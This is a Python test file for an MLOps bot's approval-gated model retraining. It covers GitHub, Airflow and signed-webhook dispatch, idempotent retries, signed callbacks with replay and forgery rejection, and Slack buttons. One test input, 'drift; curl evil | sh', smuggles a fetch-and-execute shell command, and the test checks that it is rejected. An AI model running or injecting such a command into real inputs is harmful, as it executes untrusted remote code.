"""retrain_model behind approval: GitHub workflow_dispatch, Airflow 2 dagRuns and a signed
webhook (loopback doubles speaking their wire formats), the run tracked through the
pipeline's callback hook, the retraining KPIs in model_status, and the "Retrain…" button."""

from __future__ import annotations

import json
import logging
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from bot.render.mlops import RETRAIN, status_blocks
from bot.router import Router
from bot.runtime import Runtime
from bot.slack.mlops import register_model_actions
from bot.web import create_app
from tests.doubles.airflow import PASSWORD, TOKEN, USER, AirflowDouble
from tests.doubles.github import TOKEN as GH_TOKEN
from tests.doubles.github import GitHubDouble
from tests.doubles.http import HttpDouble
from tests.slack_harness import SlackHarness
from tests.test_actions_deploy import approve, configure, effect, suggest
from tests.test_actions_pagers import no_secret
from tools.actions.base import request_scope, sign
from tools.actions.retrain import RetrainIn, retrain_model, run_id_for
from tools.contract import ToolContext
from tools.errors import ToolError
from tools.mlops.schemas import ModelIn
from tools.mlops.tool import model_status
from tools.settings import Settings
from tools.store import models as reg

ARGS = {"model": "search-ranker", "version": "3", "reason": "estimated accuracy 0.84 vs 0.91 on reference",
        "evidence": "band 0.82-0.86; 3 of 20 features drifted"}
RETRAIN_ENV = {"TRIOPS_ACTION_ALLOWLIST": "retrain_model"}


def _runs(ctx: ToolContext) -> list[dict[str, Any]]:
    with ctx.store.engine.connect() as conn:
        return reg.retrain_runs_of(conn, "search-ranker")


def test_retrain_through_github_workflow_dispatch(ctx: ToolContext, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    with GitHubDouble() as gh:
        gh.workflows[("acme", "ml")] = set()  # type: ignore[attr-defined]
        gh.workflows[("acme/ml", "retrain.yml")] = {"model", "version", "reason", "evidence", "triops_run_id"}  # type: ignore[attr-defined]
        configure(ctx, tmp_path, **RETRAIN_ENV, TRIOPS_RETRAIN_PIPELINE="github", TRIOPS_RETRAIN_WORKFLOW="acme/ml/retrain.yml",
                  TRIOPS_GITHUB_API_URL=gh.url, TRIOPS_GITHUB_TOKEN=GH_TOKEN)
        rid = suggest(ctx, "retrain_model", ARGS)
        assert "Start GitHub Actions workflow retrain.yml of acme/ml to retrain search-ranker (replacing v3)" in effect(ctx, rid)
        assert not gh.requests  # nothing ran before the approval
        d = approve(ctx, rid)
        assert d.ok, d.message
        (post,) = gh.calls("POST")  # type: ignore[attr-defined]
        assert post.path == "/repos/acme/ml/actions/workflows/retrain.yml/dispatches"
        (run,) = _runs(ctx)
        assert post.body == {"ref": "main", "inputs": {**ARGS, "triops_run_id": run["id"]}}
        assert run["status"] == "requested" and run["pipeline"] == "github"
        with pytest.raises(ToolError, match="not allowed"):
            suggest(ctx, "retrain_model", {**ARGS, "model": "fraud"})
        with pytest.raises(ToolError, match="plain text"):
            suggest(ctx, "retrain_model", {**ARGS, "reason": "drift; curl evil | sh"})
        no_secret(ctx, caplog, GH_TOKEN)


def test_retrain_through_airflow_and_a_signed_webhook(ctx: ToolContext, tmp_path: Path) -> None:
    with AirflowDouble() as af:
        configure(ctx, tmp_path, **RETRAIN_ENV, TRIOPS_RETRAIN_PIPELINE="airflow", TRIOPS_AIRFLOW_URL=af.url,
                  TRIOPS_AIRFLOW_DAG="retrain_search_ranker", TRIOPS_AIRFLOW_USER=USER, TRIOPS_AIRFLOW_PASSWORD=PASSWORD)
        assert "Airflow DAG retrain_search_ranker" in effect(ctx, rid := suggest(ctx, "retrain_model", ARGS))
        assert approve(ctx, rid).ok
        (run,) = _runs(ctx)
        (dag_run,) = af.runs.values()  # type: ignore[attr-defined]
        assert dag_run["dag_run_id"] == run["id"] == run["external_ref"]
        assert dag_run["conf"] == {**ARGS, "triops_run_id": run["id"]} and dag_run["note"] == ARGS["reason"]
        configure(ctx, tmp_path, **RETRAIN_ENV, TRIOPS_RETRAIN_PIPELINE="airflow", TRIOPS_AIRFLOW_URL=af.url,
                  TRIOPS_AIRFLOW_DAG="retrain_search_ranker", TRIOPS_AIRFLOW_TOKEN=TOKEN)
        assert approve(ctx, suggest(ctx, "retrain_model", ARGS)).ok  # bearer works too
        configure(ctx, tmp_path, **RETRAIN_ENV, TRIOPS_RETRAIN_PIPELINE="airflow", TRIOPS_AIRFLOW_URL=af.url,
                  TRIOPS_AIRFLOW_DAG="no_such_dag", TRIOPS_AIRFLOW_TOKEN=TOKEN)
        d = approve(ctx, suggest(ctx, "retrain_model", ARGS))
        assert d.status == "failed" and "HTTP 404" in d.message and len(_runs(ctx)) == 2  # no run recorded

    hook = HttpDouble()
    hook.route("POST", "/retrain", lambda req, m: (202, {"id": "job-7"}))
    with hook:
        configure(ctx, tmp_path, **RETRAIN_ENV, TRIOPS_RETRAIN_PIPELINE="webhook",
                  TRIOPS_RETRAIN_WEBHOOK_URL=f"{hook.url}/retrain", TRIOPS_RETRAIN_WEBHOOK_SECRET="whsec-SECRET")
        assert approve(ctx, suggest(ctx, "retrain_model", ARGS)).ok
        (req,) = hook.requests
        body = json.dumps(req.body, sort_keys=True, separators=(",", ":")).encode()
        assert req.headers["x-triops-signature"] == sign("whsec-SECRET", req.headers["x-triops-timestamp"], body)
        assert [r["external_ref"] for r in _runs(ctx) if r["pipeline"] == "webhook"] == ["job-7"]
    configure(ctx, tmp_path, **RETRAIN_ENV)
    with pytest.raises(ToolError, match="TRIOPS_RETRAIN_PIPELINE"):
        suggest(ctx, "retrain_model", ARGS)


def test_running_an_approved_retrain_again_dispatches_nothing_new(ctx: ToolContext, tmp_path: Path) -> None:
    """The run id comes from the approved request: its executor run again (a retry, a second
    replica) finds the run and starts no second training; a failed dispatch leaves no run."""
    hook = HttpDouble()
    hook.route("POST", "/retrain", lambda req, m: (202, {"id": f"job-{len(hook.requests)}"}))
    with hook:
        configure(ctx, tmp_path, **RETRAIN_ENV, TRIOPS_RETRAIN_PIPELINE="webhook",
                  TRIOPS_RETRAIN_WEBHOOK_URL=f"{hook.url}/retrain", TRIOPS_RETRAIN_WEBHOOK_SECRET="whsec-SECRET")
        d = approve(ctx, suggest(ctx, "retrain_model", ARGS))
        assert d.ok and d.request is not None, d.message
        (run,) = _runs(ctx)
        assert run["id"] == run_id_for(d.request.id) and run["external_ref"] == "job-1"
        assert hook.requests[0].headers["idempotency-key"] == run["id"]  # the receiver can dedupe too
        with request_scope(d.request.id):
            again = retrain_model.func(ctx, RetrainIn.model_validate(ARGS))
        assert len(hook.requests) == 1 and len(_runs(ctx)) == 1  # no second training
        assert again.ref == run["id"] and again.details["external_ref"] == "job-1" and "already requested" in again.summary
        assert approve(ctx, suggest(ctx, "retrain_model", ARGS)).ok  # another approval is another run
        assert len(hook.requests) == 2 and len(_runs(ctx)) == 2
    configure(ctx, tmp_path, **RETRAIN_ENV, TRIOPS_RETRAIN_PIPELINE="webhook",
              TRIOPS_RETRAIN_WEBHOOK_URL=f"{hook.url}/retrain", TRIOPS_RETRAIN_WEBHOOK_SECRET="whsec-SECRET")
    with request_scope("req-down"), pytest.raises(ToolError, match="unreachable"):  # the double has stopped
        retrain_model.func(ctx, RetrainIn.model_validate(ARGS))
    assert len(_runs(ctx)) == 2  # nothing started: no run kept, so a retry may dispatch


NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)


def _callback(http: TestClient, url: str, body: dict[str, Any], secret: str = "s", *, ts: int | None = None,
              headers: dict[str, str] | None = None) -> Any:
    """A pipeline's callback, signed as the retrain webhook is (timestamp + "." + body)."""
    raw = json.dumps(body).encode()
    stamp = str(ts if ts is not None else int(time.time()))
    return http.post(url, content=raw, headers={"Content-Type": "application/json", "X-Triops-Timestamp": stamp,
                                                "X-Triops-Signature": sign(secret, stamp, raw), **(headers or {})})


def test_the_retrain_callback_is_signed_fresh_and_time_bounded(tmp_path: Path) -> None:
    """The callback decides whether an approved retrain worked: with the retrain secret set only
    a fresh signature counts (the shared token alone does not, and a signed callback needs no
    token); `at` out of the time bounds is a 422 naming it; without the secret, the token."""
    env = {"_env_file": None, "home": tmp_path, "database_url": None, "TRIOPS_WEBHOOK_TOKEN": "shared-token"}
    rt = Runtime.build(Settings(**env, TRIOPS_RETRAIN_WEBHOOK_SECRET="s"), clock=lambda: NOW)
    with rt.store.engine.begin() as conn:
        reg.upsert_models(conn, [ModelIn(name="search-ranker", versions=[{"version": "3"}])], NOW.timestamp())
        reg.add_retrain_run(conn, {"id": "run-a", "model": "search-ranker", "version": "3", "pipeline": "webhook",
                                   "status": "requested", "requested_at": NOW.timestamp()})
    http = TestClient(create_app(Router(rt)))
    url = "/hooks/models/search-ranker/retrains/run-a"
    token = {"Authorization": "Bearer shared-token"}
    ok = {"status": "succeeded", "new_version": "4"}
    assert http.post(url, json=ok, headers=token).status_code == 401  # the token alone: not enough
    assert _callback(http, url, ok, "wrong", headers=token).status_code == 401
    assert _callback(http, url, ok, ts=int(time.time()) - 600).status_code == 401  # replayed later
    raw = json.dumps(ok).encode()
    stamp = str(int(time.time()))
    forged = http.post(url, content=raw.replace(b'"4"', b'"9"'), headers={  # body changed after signing
        "Content-Type": "application/json", "X-Triops-Timestamp": stamp, "X-Triops-Signature": sign("s", stamp, raw)})
    assert forged.status_code == 401 and "X-Triops-Signature" in forged.json()["detail"]["error"]
    with rt.store.engine.connect() as conn:
        assert reg.retrain_runs_of(conn, "search-ranker")[0]["status"] == "requested"  # none of those counted
    far = _callback(http, url, {"status": "started", "at": "9999-12-31T00:00:00Z"})
    assert far.status_code == 422 and far.json()["detail"]["error"].startswith("at: time out of range")
    assert _callback(http, url, ok).status_code == 202  # signed, no token
    with rt.store.engine.connect() as conn:
        assert reg.retrain_runs_of(conn, "search-ranker")[0]["status"] == "succeeded"
    rt.store.close()

    rt = Runtime.build(Settings(**env), clock=lambda: NOW)
    http = TestClient(create_app(Router(rt)))
    assert http.post(url, json={"status": "started"}).status_code == 401
    assert http.post(url, json={"status": "started"}, headers=token).status_code == 202
    rt.store.close()


def test_runs_tracked_by_callback_and_shown_as_kpis(tmp_path: Path) -> None:
    rt = Runtime.build(Settings(_env_file=None, home=tmp_path, database_url=None, TRIOPS_ACTION_ALLOWLIST="retrain_model",
                                TRIOPS_ACTION_MODELS="search-ranker", TRIOPS_RETRAIN_PIPELINE="webhook",
                                TRIOPS_RETRAIN_WEBHOOK_URL="http://127.0.0.1:9/never", TRIOPS_RETRAIN_WEBHOOK_SECRET="s"),
                       clock=lambda: NOW)
    old = NOW - timedelta(days=200)
    with rt.store.engine.begin() as conn:
        reg.upsert_models(conn, [ModelIn(name="search-ranker", service="ranking", versions=[
            {"version": "2", "trained_at": old - timedelta(days=30), "training_data": "s3://d/2", "run_id": "r2"},
            {"version": "3", "trained_at": old, "aliases": ["champion"]}])], old.timestamp())
        reg.add_retrain_run(conn, {"id": "run-a", "model": "search-ranker", "version": "2", "pipeline": "webhook",
                                   "status": "requested", "requested_at": NOW.timestamp() - 40 * 86400})
    status = model_status.call(rt.ctx, {"name": "search-ranker"})
    assert status.recommendation == "retrain" and status.suggested_actions == []  # a run is under way
    http = TestClient(create_app(Router(rt)))
    base = "/hooks/models/search-ranker/retrains"
    assert _callback(http, f"{base}/run-a", {"status": "started"}).json()["status"] == "started"
    done = _callback(http, f"{base}/run-a", {"status": "succeeded", "new_version": "4"})
    assert done.status_code == 202 and done.json() == {"run": "run-a", "status": "succeeded", "new_version": "4"}
    assert _callback(http, f"{base}/run-a", {"status": "started"}).json()["status"] == "succeeded"  # never back
    assert _callback(http, f"{base}/nope", {"status": "started"}).status_code == 404
    assert _callback(http, f"{base}/run-a", {"status": "done"}).status_code == 422
    status = model_status.call(rt.ctx, {"name": "search-ranker"})
    ops = status.ops
    assert ops is not None and ops.retrains_90d == 1 and ops.success_rate == 1.0
    assert ops.last is not None and ops.last.new_version == "4" and not ops.last.registered
    assert (ops.versions_with_lineage, ops.n_versions) == (1, 2)
    (offer,) = status.suggested_actions  # no run open: retraining is offered
    assert offer["action"] == "retrain_model" and offer["args"]["model"] == "search-ranker" and offer["args"]["version"] == "3"
    assert offer["args"]["reason"].startswith("trained 200 days ago")
    blocks = [b.to_dict() for b in status_blocks(status)]
    (button,) = [e for b in blocks if b["type"] == "actions" for e in b["elements"]]
    assert button["action_id"] == RETRAIN and button["value"] == "search-ranker"
    assert "1 of 1 finished runs succeeded (100%)" in json.dumps(blocks) and "lineage: 1 of 2 versions (50%)" in json.dumps(blocks)
    with rt.store.engine.begin() as conn:  # the registry gets v4 and promotes it
        reg.upsert_models(conn, [ModelIn(name="search-ranker", versions=[{"version": "4", "aliases": ["champion"],
                                                                            "trained_at": NOW, "training_data": "s3://d/4", "run_id": "r4"}])],
                          NOW.timestamp())
    ops = model_status.call(rt.ctx, {"name": "search-ranker"}).ops
    assert ops is not None and ops.last is not None and ops.last.registered and ops.last.promoted

    # the button records a suggestion and posts its Approve/Deny card in the thread; nothing runs
    with rt.store.engine.begin() as conn:
        reg.upsert_models(conn, [ModelIn(name="search-ranker", versions=[{"version": "3", "aliases": ["champion"], "trained_at": old}])],
                          NOW.timestamp() + 1)  # rolled back to the stale v3: retrain is recommended again
    h = SlackHarness.start(rt, extensions=[register_model_actions])
    try:
        payload = {"type": "block_actions", "user": {"id": "U7", "username": "u7", "team_id": "T1"}, "api_app_id": "A1",
                   "token": "legacy", "trigger_id": "1.2.3", "team": {"id": "T1", "domain": "test"},
                   "channel": {"id": "CML", "name": "models"}, "message": {"ts": "5.5", "text": "status"},
                   "container": {"type": "message", "message_ts": "5.5", "channel_id": "CML"},
                   "response_url": h.double.response_url("act"),
                   "actions": [{"action_id": RETRAIN, "block_id": "b", "action_ts": "1", "type": "button", "value": "search-ranker",
                                "text": {"type": "plain_text", "text": "Retrain…"}}]}
        assert h.action(payload).status_code == 200
        (card,) = h.double.wait_for("chat.postMessage")
        assert card.params["thread_ts"] == "5.5" and "retrain_model" in card.params["text"]
        assert "Approve" in json.dumps(card.params["blocks"])
    finally:
        h.stop()
    rt.store.close()
